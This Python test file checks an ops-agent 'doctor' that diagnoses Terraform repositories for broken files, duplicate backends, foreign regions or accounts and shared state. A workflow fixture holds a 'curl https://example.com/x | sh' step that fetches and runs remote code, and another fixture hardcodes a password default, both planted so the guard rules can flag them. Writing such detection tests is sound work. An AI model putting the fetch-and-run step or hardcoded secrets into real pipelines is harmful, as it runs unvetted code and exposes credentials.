"""The doctor names what is on the base branch already: unreadable files, second backends, foreign regions and
accounts, shared states.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from layout_repository import PARTIAL, QUEUE, WHOLE, Repository
from ops_agent.config.settings import Settings
from ops_agent.doctor import read_repository
from ops_agent.doctor.checks import CHECKS
from ops_agent.doctor.diagnosis import Diagnosis, Health, Setup, summarised
from ops_agent.doctor.report import exit_code
from ops_agent.doctor.repository import PLACE_RULES
from ops_agent.guard.rules import TABLE
from ops_agent.model.finding import Finding

SERVICE = {
    "infra/main.tf": PARTIAL + QUEUE,
    "infra/providers.tf": 'provider "aws" {\n  region = "sa-east-1"\n}\n',
    **{
        f"infra/{path}": text
        for e in ("dev", "prod")
        for path, text in {
            f"backend/{e}/backend.hcl": f'bucket = "{e}-state"\nkey = "orders"\nregion = "sa-east-1"\n',
            f"environments/{e}/terraform.tfvars": f'name = "{e}"\n',
        }.items()
    },
}
BROKEN = 'variable "x" {\n  default = "y"\n}\nlocals {\n  name =\n}\n'


def looked(folder: Path, files: dict[str, str]) -> list[Diagnosis]:
    folder.mkdir(exist_ok=True)
    repository = Repository(folder)
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    repository.git("add", "--all", "--force")
    repository.git("commit", "-q", "-m", "files")
    found: list[Diagnosis] = []
    no_world: Any = None
    setup = Setup(settings=Settings(), world=no_world, environment={}, tree=None, layout=None)
    setup = read_repository(folder, setup, found)
    return [*summarised([*found, *CHECKS["layout"](setup), *CHECKS["rules"](setup)])]


def ill(found: list[Diagnosis], health: Health) -> list[str]:
    return [one.what for one in found if one.health is health]


def test_a_plain_service_gets_no_warning(tmp_path: Path) -> None:
    assert {one.health for one in looked(tmp_path, SERVICE)} == {Health.OK}


def test_links_inside_of_the_repository_and_odd_numbers_get_no_warning(tmp_path: Path) -> None:
    (tmp_path / "infra").mkdir()
    (tmp_path / "infra/common.tf").symlink_to("../shared/common.tf")
    (tmp_path / "infra/net").symlink_to("../shared/net")
    files = {
        **SERVICE,
        "shared/common.tf": "locals {\n  most = 1e12\n}\n",
        "shared/net/main.tf": QUEUE,
        "infra/calls.tf": 'module "net" {\n  source = "./net"\n}\n',
    }
    found = looked(tmp_path, files)
    assert {one.health for one in found} == {Health.OK}
    assert sum(one.what.startswith("root module") for one in found) == 1, (
        "what a link shows is no root beside the one that calls it"
    )


def test_an_unreadable_file_of_the_only_root_fails_with_its_line(tmp_path: Path) -> None:
    found = looked(tmp_path, {**SERVICE, "infra/z.tf": BROKEN})
    (what,) = ill(found, Health.FAIL)
    assert what.startswith("infra/z.tf:5: it cannot be read") or what.startswith("infra/z.tf:6: it cannot be read")
    assert exit_code(found) == 2


def test_where_another_root_can_be_loaded_an_unreadable_file_is_a_warning(tmp_path: Path) -> None:
    found = looked(tmp_path, {**SERVICE, "live/dev/main.tf": WHOLE, "live/dev/z.tf": BROKEN})
    assert not ill(found, Health.FAIL) and any(what.startswith("live/dev/z.tf:") for what in ill(found, Health.WARN))


def test_an_unreadable_module_spoils_every_root_that_reaches_it(tmp_path: Path) -> None:
    call = 'module "m" {\n  source = "../modules/m"\n}\n'
    reached = {**SERVICE, "infra/more.tf": call, "modules/m/main.tf": BROKEN}
    assert any(what.startswith("modules/m/main.tf:") for what in ill(looked(tmp_path, reached), Health.FAIL))


def test_an_unreadable_file_of_one_environment_is_a_warning(tmp_path: Path) -> None:
    found = looked(tmp_path, {**SERVICE, "infra/environments/prod/terraform.tfvars": "name = \n"})
    (what,) = ill(found, Health.WARN)
    assert what.startswith("infra/environments/prod/terraform.tfvars:2: it cannot be read") and not ill(
        found, Health.FAIL
    )


def test_where_the_unreadable_file_hides_the_root_nobody_says_that_there_is_no_backend(tmp_path: Path) -> None:
    found = looked(tmp_path, {"infra/main.tf": PARTIAL + BROKEN})
    assert any(what.startswith("infra/main.tf:") and "cannot be read" in what for what in ill(found, Health.FAIL))
    assert ill(found, Health.WARN) == [".: no root was found, and files that could be one cannot be read"]


@pytest.mark.parametrize("second", [PARTIAL, 'terraform {\n  cloud {\n    organization = "x"\n  }\n}\n'])
def test_a_second_backend_of_a_root_is_named_with_the_first(tmp_path: Path, second: str) -> None:
    found = looked(tmp_path, {**SERVICE, "infra/state.tf": second})
    (what,) = ill(found, Health.FAIL)
    assert what == "infra/state.tf:2: `infra` has its backend in infra/main.tf:2 already, and Terraform takes one only"


@pytest.mark.parametrize(
    "path", ["infra/main_override.tf", "infra/override.tf", "infra/main.tofu", "modules/m/main.tf"]
)
def test_a_backend_that_is_no_second_one_is_not_named(tmp_path: Path, path: str) -> None:
    assert not ill(looked(tmp_path, {**SERVICE, path: PARTIAL}), Health.FAIL)


@pytest.mark.parametrize(
    ("path", "text", "words"),
    [
        (
            "infra/providers.tf",
            'provider "aws" {\n  region = "us-east-1"\n}\n',
            "infra/providers.tf:2: `us-east-1` is not the policy's region",
        ),
        (
            "infra/backend/dev/backend.hcl",
            'bucket = "dev-state"\nkey = "orders"\nregion = "us-east-1"\n',
            "infra/backend/dev/backend.hcl:3: `us-east-1` is not the policy's region",
        ),
        (
            "infra/backend/dev/backend.hcl",
            'bucket = "prod-state"\nkey = "orders"\nregion = "sa-east-1"\n',
            "bucket and key are the same as in `infra/backend/",
        ),
        (
            "infra/environments/dev/terraform.tfvars",
            'name = "arn:aws:iam::123123123123:role/x"\n',
            "the account `123123123123` is not one of the input `aws_accounts`",
        ),
        (
            "infra/environments/dev/terraform.tfvars",
            'name = "283165662494"\n',
            "`283165662494` is the account of `prod`",
        ),
    ],
)
def test_an_existing_foreign_region_account_or_shared_state_is_a_warning(
    tmp_path: Path, path: str, text: str, words: str
) -> None:
    found = looked(tmp_path, {**SERVICE, path: text})
    (what,) = ill(found, Health.WARN)
    assert words in what and not ill(found, Health.FAIL)
    assert next(one.hint for one in found if one.what == what).endswith("Already on the base branch; does not block.")


def test_what_no_root_reaches_is_not_judged(tmp_path: Path) -> None:
    foreign = 'provider "aws" {\n  region = "us-east-1"\n}\n'
    assert {
        one.health for one in looked(tmp_path, {**SERVICE, "examples/x/main.tf": foreign, "modules/x/main.tf": QUEUE})
    } == {Health.OK}


def test_the_rules_that_the_doctor_asks_are_rules_of_the_guard() -> None:
    assert {rule.id for rule in TABLE} >= PLACE_RULES


def test_many_places_are_shown_in_part_and_counted(tmp_path: Path) -> None:
    many = {f"infra/f{number}.tf": BROKEN for number in range(30)}
    (one,) = [one for one in looked(tmp_path, {**SERVICE, **many}) if one.health is Health.FAIL]
    assert one.what.startswith("infra/f0.tf:5: ") and "; and 29 more like this: infra/f1.tf:5, " in one.what
    assert len(one.details) == 30


def test_a_repository_without_terraform_gets_an_explanation(tmp_path: Path) -> None:
    (one,) = looked(tmp_path, {"README.md": "x"})
    assert (
        one.health is Health.WARN and "written here for the first time" in one.hint and "Add the file" not in one.hint
    )


def test_an_unsettled_environment_is_reported_once_with_its_remedy(tmp_path: Path) -> None:
    files = {"infra/main.tf": WHOLE, "infra/dev.tfvars": "", "infra/prod.tfvars": ""}
    found = looked(tmp_path, files)
    (one,) = [one for one in found if "would share one state" in one.what]
    assert one.what == "`dev` and `prod` of `infra` are not planned: the environments of `infra` would share one state"
    assert one.hint.startswith("Write the lines below into `.github/ops-agent.yml`")


def test_a_missing_backend_file_is_to_be_written_or_named(tmp_path: Path) -> None:
    files = {"infra/main.tf": PARTIAL, "infra/dev.tfvars": "", "live/prod/main.tf": PARTIAL}
    hints = [one.hint for one in looked(tmp_path, files) if "no backend file was found" in one.what]
    rest = "(bucket, key, region, encrypt, use_lockfile); or name an existing file with the lines below."
    assert hints == [f"Write `infra/backend/dev/backend.hcl` {rest}", f"Write `live/prod/backend.hcl` {rest}"]
    (lines,) = [one.hint for one in looked(tmp_path / "again", files) if "add these lines" in one.what]
    assert "root: infra" in lines and "root: live/prod" in lines


@pytest.mark.parametrize("source", ["../../../aws//aws-auth", "${get_repo_root()}/aws/aws-auth?ref=x"])
def test_a_root_that_terragrunt_runs_from_elsewhere_gets_no_lines(tmp_path: Path, source: str) -> None:
    files = {
        "aws/aws-auth/main.tf": PARTIAL,
        "env/dev/aws-auth/terragrunt.hcl": f'terraform {{\n  source = "{source}"\n}}\n',
    }
    said = [one.what for one in looked(tmp_path, files)]
    assert "aws/aws-auth: Terragrunt runs it (`env/dev/aws-auth/terragrunt.hcl`), so it is not planned here" in said
    assert not [what for what in said if "add these lines" in what or "no environment of this root" in what]


def test_a_root_with_environments_and_no_backend_is_a_warning(tmp_path: Path) -> None:
    found = looked(tmp_path, {**SERVICE, "infra/main.tf": QUEUE, "tools/main.tf": 'provider "aws" {}\n'})
    (one,) = [one for one in found if "its state is local" in one.what]
    assert one.health is Health.WARN and one.hint.startswith('Add `backend "s3" {}`')
    assert one.what == (
        "no backend in the code of `infra`: its state is local, so a plan with the account shows everything as new"
    )


def test_a_root_whose_backend_may_be_in_a_broken_file_gets_no_warning_about_it(tmp_path: Path) -> None:
    found = looked(tmp_path, {**SERVICE, "infra/main.tf": PARTIAL + BROKEN})
    assert not [one for one in found if "its state is local" in one.what]


WORKFLOW = """on: [push, pull_request]
jobs:
  plan:
    runs-on: ubuntu-24.04
    strategy: {matrix: "${{ fromJSON(inputs.targets) }}"}
    steps: &steps
      - uses: someone/action@v1
      - run: curl https://example.com/x | sh
  apply: {runs-on: ubuntu-24.04, steps: *steps}
"""


def test_the_rules_say_by_kind_and_as_advice_what_is_there(tmp_path: Path) -> None:
    secret = 'variable "password" {\n  default = "aGk3kPq92LxmVbT7"\n}\n'
    files = {f"infra/{number}.tf": secret.replace("password", f"password{number}") for number in range(5)}
    found = looked(tmp_path, {**SERVICE, **files, ".github/workflows/plan.yml": WORKFLOW})
    said = [one for one in found if one.subject == "rules"]
    assert {one.health for one in found} == {Health.OK} and all("there already, blocks no" in one.what for one in said)
    assert len(said) == len({one.what.partition("`")[2].partition("`")[0] for one in said}), "one line for each rule"
    (many,) = [one for one in said if "infra/0.tf:" in one.what]
    assert many.what.endswith(" and 2 more (`ops-agent judge` lists them)")
    assert any(".github/workflows/plan.yml:7" in one.what for one in said), "what anchors repeat is judged"


def test_a_rule_that_breaks_on_what_is_there_is_our_bug_with_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(_: object) -> Iterator[Finding]:
        raise KeyError("matrix")

    table = [replace(rule, function=broken) if rule.id == "workflow/unlisted-action" else rule for rule in TABLE]
    monkeypatch.setattr("ops_agent.guard.judge.TABLE", table)
    found = looked(tmp_path, {**SERVICE, ".github/workflows/plan.yml": WORKFLOW})
    (bug,) = [one for one in found if one.health is Health.WARN]
    assert bug.what.startswith(".github/workflows/plan.yml: the rule `workflow/unlisted-action` crashed: KeyError at ")
    assert "this is a bug in ops-agent: please report it with the file" in bug.hint
